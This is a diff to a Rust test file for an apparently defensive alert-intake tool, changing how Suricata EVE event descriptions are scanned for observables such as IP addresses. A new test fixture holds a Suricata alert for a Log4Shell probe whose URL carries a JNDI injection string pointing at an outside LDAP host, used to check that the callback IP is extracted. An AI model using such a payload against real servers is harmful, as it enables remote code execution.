@@ -735,11 +735,12 @@ fn hex_decode(s: &str) -> Vec<u8> {
         .collect()
 }
 
-/// Suricata events say their descriptions hold no observable beyond the structured ones (the
-/// intake then looks in their titles only): over every EVE sample, and over every record type
-/// asked for by name, the description's text yields nothing the event does not already have.
+/// Suricata events skip the lines of their descriptions they wrote from fields (flow, category,
+/// protocol, action) when the intake looks for observables: over every EVE sample and every
+/// record type asked for by name, those lines yield nothing the event does not already have.
+/// The URL line, the client's own text, is still looked through.
 #[test]
-fn eve_descriptions_hold_only_the_given_observables() {
+fn eve_descriptions_skip_only_lines_whose_observables_are_given() {
     let types = EveTypes::parse("alert,anomaly,http,dns,tls,fileinfo,flow,ssh,smtp").unwrap();
     let mut checked = 0;
     for path in samples("eve") {
@@ -749,14 +750,14 @@ fn eve_descriptions_hold_only_the_given_observables() {
                 continue;
             };
             for ev in events {
-                assert!(ev.description_from_fields);
                 let Some(d) = &ev.description else { continue };
-                for o in firebreak_intake::observables::extract(d) {
+                let skipped = &d[..ev.description_scan_from];
+                for o in firebreak_intake::observables::extract(skipped) {
                     assert!(
                         ev.observables
                             .iter()
                             .any(|g| g.kind == o.kind && g.value == o.value),
-                        "{}: {:?} {:?} is in the description but not given: {d}",
+                        "{}: {:?} {:?} is in a skipped line but not given: {skipped}",
                         path.display(),
                         o.kind,
                         o.value
@@ -767,4 +768,17 @@ fn eve_descriptions_hold_only_the_given_observables() {
         }
     }
     assert!(checked >= 10, "only {checked} events checked");
+    // a Log4Shell probe: the callback address is only in the URL, which is still looked through
+    let line = r#"{"timestamp":"2026-11-20T10:00:00.000000+0000","event_type":"alert","src_ip":"198.51.100.20","src_port":40000,"dest_ip":"10.0.0.5","dest_port":80,"proto":"TCP","app_proto":"http","alert":{"action":"allowed","gid":1,"signature_id":2034647,"rev":2,"signature":"ET EXPLOIT Apache log4j RCE Attempt","category":"Attempted Administrator Privilege Gain","severity":1},"http":{"hostname":"victim.example.com","url":"/?x=${jndi:ldap://203.0.113.9:1389/a}","http_method":"GET"}}"#;
+    let ev = eve::parse_line(line, &EveTypes::default())
+        .unwrap()
+        .remove(0);
+    let d = ev.description.as_deref().unwrap();
+    let scanned = firebreak_intake::observables::extract(&d[ev.description_scan_from..]);
+    assert!(
+        scanned
+            .iter()
+            .any(|o| o.kind == ObservableKind::Ip && o.value == "203.0.113.9"),
+        "{scanned:?} in {d:?}"
+    );
 }
